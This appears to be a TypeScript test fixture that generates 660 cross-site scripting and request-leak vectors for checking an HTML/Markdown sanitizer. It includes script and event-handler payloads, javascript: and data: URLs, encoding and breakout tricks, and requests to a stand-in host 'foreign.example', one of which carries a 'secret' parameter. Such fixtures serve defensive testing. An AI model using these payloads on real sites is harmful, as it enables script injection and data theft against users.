/** Host that the vectors name, and that no page may contact. */
export const FOREIGN_HOST = "foreign.example";

const RUN = "window.hostileRuns=1";
const FOREIGN = `https://${FOREIGN_HOST}`;

/** Markup of HTML that runs a script or sends a request. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<script src=${FOREIGN}/a.js></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=${FOREIGN}/a.png>`,
  `<img srcset="${FOREIGN}/a.png 2x">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload='${RUN}'/>"></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>a</text></a></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe src="${FOREIGN}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="${FOREIGN}/a.swf">`,
  `<base href="${FOREIGN}/">`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN}">`,
  `<link rel=stylesheet href="${FOREIGN}/a.css">`,
  `<link rel=dns-prefetch href="${FOREIGN}">`,
  `<style>@import url(${FOREIGN}/a.css);</style>`,
  `<p style="background:url(${FOREIGN}/a.png)">a</p>`,
  `<details open ontoggle="${RUN}">a</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video poster="${FOREIGN}/a.png"><source src=x onerror="${RUN}"></video>`,
  `<audio src="${FOREIGN}/a.mp3" autoplay></audio>`,
  `<form action="${FOREIGN}"><button autofocus formaction="javascript:${RUN}">a</button></form>`,
  `<math href="javascript:${RUN}">a</math>`,
  `<a href="javascript:${RUN}">a</a>`,
  `<body onload="${RUN}">`,
  `"><img src=x onerror=${RUN}>`,
  `'onmouseover='${RUN}'`,
  `--><img src=x onerror=${RUN}>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
];

/** Markdown whose links or images run a script or send a request. */
const MARKDOWN = [
  `[a](javascript:${RUN})`,
  `[a](JaVa\tScRiPt:${RUN})`,
  `[a](&#106;avascript:${RUN})`,
  `[a](data:text/html,<script>${RUN}</script>)`,
  `[a](vbscript:${RUN})`,
  `[a](${FOREIGN} "a\\" onmouseover=\\"${RUN}")`,
  `<javascript:${RUN}>`,
  `![a](javascript:${RUN})`,
  `![a](${FOREIGN}/a.png)`,
  `![a](//${FOREIGN_HOST}/a.png)`,
  `![a](data:image/svg+xml,<svg onload=${RUN}>)`,
  `![a][r]\n\n[r]: ${FOREIGN}/a.png`,
  `[![a](${FOREIGN}/a.png)](javascript:${RUN})`,
  `a[^1]\n\n[^1]: ![a](${FOREIGN}/a.png)`,
  `\`\`\`js" onload="${RUN}\na\n\`\`\``,
  `$\\href{javascript:${RUN}}{a}$`,
];

/** Values that are addresses or data. */
const VALUES = [
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `${FOREIGN}/a?b=secret`,
  `//${FOREIGN_HOST}/a.png`,
  `{"__proto__":{"onload":"${RUN}"},"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  `\${${RUN}}{{constructor.constructor('${RUN}')()}}`,
];

/** Surroundings that change how a text is parsed. */
const SURROUNDINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `- ${text}`,
  (text) => `> ${text}`,
  (text) => `# ${text}`,
  (text) => `**${text}**`,
  (text) => `|a|\n|-|\n|${text}|`,
  (text) => `[${text}](${FOREIGN}/link)`,
  (text) => `\u0000\u202e${text}`,
  (text) => `<div>\n\n${text}\n\n</div>`,
  (text) => `&#106;${text.replace(/</g, "&lt;").replace(/javascript/g, "java&#x0a;script")}`,
  (text) => text.toUpperCase(),
  (text) => `\`\`\`\n${text}\n\`\`\`\n\n${text}`,
];

/** 660 texts that would run a script or send a request in an unsafe page: 55 bases in 12 surroundings. */
export const hostileVectors: readonly string[] = [...MARKUP, ...MARKDOWN, ...VALUES].flatMap(
  (base) => SURROUNDINGS.map((surround) => surround(base)),
);
